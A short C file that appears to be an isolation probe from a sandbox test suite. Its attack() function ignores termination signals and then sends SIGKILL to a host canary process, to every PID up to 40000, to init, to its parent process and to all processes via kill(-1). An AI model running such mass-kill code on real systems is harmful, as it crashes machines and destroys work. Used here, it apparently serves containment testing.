/* SIGKILL to all it may, to its parent, to its groups and to a process of the host by number. */
#include "serve.h"

static void attack(void)
{
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    tried("signals");
    kill(CANARY_PID, SIGKILL);
    for (pid_t pid = 2; pid < 40000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    kill(1, SIGTERM);
    kill(1, SIGKILL);
    kill(getppid(), SIGSTOP);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    sigqueue(1, SIGKILL, (union sigval){0});
}

int main(int argc, char **argv)
{
    attack();
    return serve(argc, argv);
}
